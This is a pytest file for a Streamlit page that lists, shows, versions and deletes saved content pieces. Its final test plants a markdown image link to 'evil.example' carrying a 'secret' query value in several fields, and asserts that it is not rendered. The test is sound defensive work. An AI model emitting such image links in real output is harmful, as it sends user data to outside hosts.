"""The page Pieces as a script: the list, one piece, its files, and deleting it."""

from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from agent.ports import KeptPiece, Picture, Ports, Version
from tests.ui.test_issues_page import links, press, texts
from ui import session

pytestmark = pytest.mark.timeout(120)

SECONDS = 40
PICTURE = Picture(
    png=bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c63606060f80f0001040100"
        "5fe5c34b0000000049454e44ae426082"
    ),
    svg="<svg xmlns='http://www.w3.org/2000/svg'/>",
    width=1,
    height=1,
    alt="A hall",
    is_card=True,
)


def content(kind: str = "blog", text: str = "# Staging\n\nBegin with light.", **more: Any) -> Any:
    return {
        "kind": kind,
        "title": "Staging",
        "text": text,
        "meta_description": "",
        "alt": "",
        "ratio": "",
        "style": "",
        "language": "en",
        "claims": [],
        "slots": [],
        "wish": None,
        "picture": "",
        "origin": "rules",
        "notes": [],
        **more,
    }


def keep(id_: str, title: str, kind: str = "blog", *, thread: str = "gone", **more: Any) -> None:
    made = content(kind, **more)
    at = f"2026-03-01T10:00:0{len(ports().pieces.kept('local'))}+00:00"
    ports().pieces.keep("local", KeptPiece(id_, kind, title, made, None, thread, at))


def ports() -> Ports:
    return session.agent().ports


def page_of(app: AppTest, **query: str) -> AppTest:
    for name, value in query.items():
        app.query_params[name] = value
    page = app.switch_page("../pages/pieces.py").run(timeout=SECONDS)
    assert not page.exception
    return page


def shown(page: AppTest) -> list[str]:
    return [label for label in links(page) if label != "Open Studio"]


def downloads(page: AppTest) -> list[str]:
    return [each.label for each in page.get("download_button")]


# The list


def test_pieces_are_listed_the_latest_first_with_how_they_begin(app: AppTest) -> None:
    keep("p1", "Home *staging*")
    keep("p2", "Nine days", "linkedin", text="That is how much sooner it sells.\n\n#RealEstate")
    page = page_of(app)
    assert shown(page) == ["**Nine days**", r"**Home \*staging\***"]
    assert "Begin with light." in texts(page)
    assert "LinkedIn post · approved" in texts(page)


def test_type_and_words_choose_among_them(app: AppTest) -> None:
    keep("p1", "Home staging")
    keep("p2", "Nine days", "linkedin", text="Staging pays.")
    page = page_of(app)
    assert len(page.pills[0].options) == 2
    page = page.text_input(key="pieces-search").set_value("LIGHT").run()
    assert shown(page) == ["**Home staging**"]
    page = page.text_input(key="pieces-search").set_value("staging").run()
    assert len(shown(page)) == 2
    page = page.button_group(key="pieces-kind").set_value("linkedin").run()
    assert shown(page) == ["**Nine days**"]
    page = page.text_input(key="pieces-search").set_value("light").run()
    assert "No pieces match." in texts(page)


# One piece


def test_a_piece_is_shown_with_what_belongs_to_it(app: AppTest) -> None:
    ports().pieces.put_picture("local", "x", PICTURE, thread="gone")
    keep("p1", "Staging", meta_description="What pays & what not", alt="A hall", picture="x")
    page = page_of(app, piece="p1")
    said = texts(page)
    assert page.header[0].value == "Staging"
    assert "Begin with light." in said
    assert "**Meta description** What pays & what not" in said
    assert [caption.value for caption in page.tabs[0].caption].count("**Alt text** A hall") == 1
    assert len(page.image) == 1
    assert [tab.label for tab in page.tabs] == ["Text", "Preview"]
    assert downloads(page) == ["Markdown", "HTML", "JSON", "PNG", "SVG"]


def test_a_picture_that_is_gone_is_said(app: AppTest) -> None:
    keep("p1", "Staging", picture="x")
    page = page_of(app, piece="p1")
    assert "The picture is no longer there." in texts(page)
    assert downloads(page) == ["Markdown", "HTML", "JSON"]


def test_versions_are_shown_with_what_each_changed_and_which_was_approved(app: AppTest) -> None:
    first, second = content(text="Begin with light."), content(text="Begin with air.")
    for n, made in enumerate((first, second, {**second, "title": "Never kept"})):
        why = ("drafted", "rewritten", "edited")[n]
        comment = "Less light" if n == 1 else ""
        version = Version(
            f"v{n}", "p1", "gone", 0, f"2026-03-01T09:00:0{n}+00:00", why, made, comment
        )
        ports().pieces.add_version("local", version)
    keep("p1", "Staging", text="Begin with air.")
    page = page_of(app, piece="p1")
    assert page.tabs[-1].label == "Versions (3)"
    said = "\n".join(block.value for block in page.tabs[-1].markdown)
    assert ":red-background[~~light~~]:green-background[air]" in said
    assert [line for line in said.splitlines() if "approved]" in line] == [
        "**Version 2** changed, 1 Mar 2026 09:00 UTC :green-badge[:material/check: approved]"
    ]
    assert "“Less light”" in texts(page)


def test_a_version_that_came_after_the_approval_does_not_take_its_mark(app: AppTest) -> None:
    for n, at in enumerate(("2026-03-01T09:00:00+00:00", "2026-03-02T09:00:00+00:00")):
        version = Version(f"v{n}", "p1", "gone", 0, at, "rewritten", content())
        ports().pieces.add_version("local", version)
    keep("p1", "Staging")
    page = page_of(app, piece="p1")
    marked = [block.value for block in page.tabs[-1].markdown if "approved]" in block.value]
    assert len(marked) == 1
    assert marked[0].startswith("**Version 1**")


def test_a_delete_can_be_undone(app: AppTest) -> None:
    keep("p1", "Staging")
    page = press(page_of(app, piece="p1"), "Delete")
    assert ports().pieces.kept("local") == []
    assert "Deleted “Staging”" in texts(page)
    page = press(page, "Undo")
    assert shown(page) == ["**Staging**"]
    assert "Deleted" not in texts(page)


def test_what_was_deleted_is_listed_after_a_reload_too_until_it_is_restored(app: AppTest) -> None:
    keep("p1", "*Staging*")
    keep("p2", "Rates", "linkedin")
    for id_ in ("p1", "p2"):
        ports().pieces.delete("local", id_)
    page = page_of(app)
    assert "**No piece yet.**" in texts(page)
    assert page.expander[0].label == "Recently deleted (2)"
    said = [block.value for block in page.expander[0].markdown]
    assert [line.splitlines()[0].strip() for line in said] == [
        ":material/work: Rates",
        r":material/article: \*Staging\*",
    ]
    assert ":small[LinkedIn post · deleted just now]" in said[0]
    page = press(page, "Restore")
    assert shown(page) == ["**Rates**"]
    assert page.expander[0].label == "Recently deleted (1)"


def test_an_unknown_piece_is_not_found(app: AppTest) -> None:
    page = page_of(app, piece="p9")
    assert "This piece does not exist here." in page.warning[0].value
    assert press(page, "All pieces").title[0].value == "Pieces"


def test_a_piece_cannot_draw_anything(app: AppTest) -> None:
    evil = "![x](http://evil.example/?q=secret)"
    keep("p1", evil, text=evil, meta_description=evil, alt=evil)
    assert "![" not in texts(page_of(app))
    assert "![" not in texts(page_of(app, piece="p1"))
